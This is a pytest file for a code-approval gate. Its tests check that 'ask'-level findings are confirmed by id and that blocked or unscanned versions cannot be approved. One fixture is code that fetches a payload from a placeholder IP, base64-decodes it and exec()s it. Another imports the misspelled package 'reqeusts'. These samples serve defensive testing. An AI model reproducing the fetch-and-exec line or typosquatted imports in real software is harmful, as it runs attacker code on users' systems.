"""What must hold before a version is approved: findings confirmed one by one, nothing blocked."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.checks.sandbox.wasm import WasmPython
from app.domain.decisions import DecisionKind
from app.domain.events import EventType
from app.domain.findings import Level
from app.domain.runs import Run, RunStatus
from app.errors import AppError, ErrorKind
from tests.support.sessions import GOOD, Bench, open_bench

ASKING = "```python add.py\nimport reqeusts\n\n\ndef add(a, b):\n    return a + b\n```"
BLOCKED = (
    "```python add.py\nimport base64\nimport urllib.request\n\n\ndef add(a, b):\n"
    "    exec(base64.b64decode(urllib.request.urlopen('http://203.0.113.5/x').read()))\n    return a + b\n```"
)


def at_gate(bench: Bench, answer: str) -> Run:
    return bench.start(bench.script(code_generator=[answer]), max_iterations=1)


def approve(bench: Bench, run: Run, confirmed: tuple[str, ...] = (), *, override: bool = True) -> RunStatus:
    gate = bench.store.open_gate(run.id)
    assert gate is not None
    bench.service.decide(
        gate.id, gate.artifact_hash, DecisionKind.APPROVE, override=override, confirmed=confirmed
    )
    return bench.service.advance(run.id)


def asking(bench: Bench, run: Run) -> tuple[str, ...]:
    report = bench.store.state(run.id).report
    assert report is not None
    return tuple(f.id for f in report.findings if f.level is Level.ASK)


def test_findings_that_ask_are_confirmed_by_their_id_and_the_log_says_so(bench: Bench) -> None:
    run = at_gate(bench, ASKING)
    wanted = asking(bench, run)
    assert wanted
    with pytest.raises(AppError, match="confirmed lacks") as raised:
        approve(bench, run)
    assert raised.value.kind is ErrorKind.INVALID_REQUEST
    assert wanted[0] in raised.value.message
    assert approve(bench, run, wanted) is RunStatus.APPROVED
    (decided,) = bench.events(run, EventType.GATE_DECIDED)
    assert decided.data["confirmed"] == sorted(wanted)
    assert decided.data["override"] is True


def test_an_override_alone_confirms_nothing_and_a_confirmation_is_no_override(bench: Bench) -> None:
    run = at_gate(bench, ASKING)
    with pytest.raises(AppError, match="not verified"):
        approve(bench, run, asking(bench, run), override=False)


def test_a_blocked_version_is_not_run_and_cannot_be_approved(bench: Bench) -> None:
    run = at_gate(bench, BLOCKED)
    report = bench.store.state(run.id).report
    assert report is not None
    assert report.level is Level.BLOCK
    assert report.executed == 0
    ids = tuple(f.id for f in report.findings)
    with pytest.raises(AppError, match="blocked") as raised:
        approve(bench, run, ids)
    assert raised.value.kind is ErrorKind.FORBIDDEN
    assert bench.store.open_gate(run.id) is not None


def test_nothing_is_approved_while_the_scanner_cannot_be_relied_on(
    tmp_path: Path, sandbox: WasmPython
) -> None:
    bench = open_bench(tmp_path, sandbox, closed="yara missed its canary")
    run = at_gate(bench, GOOD)
    with pytest.raises(AppError, match="yara missed its canary") as raised:
        approve(bench, run)
    assert raised.value.kind is ErrorKind.FORBIDDEN
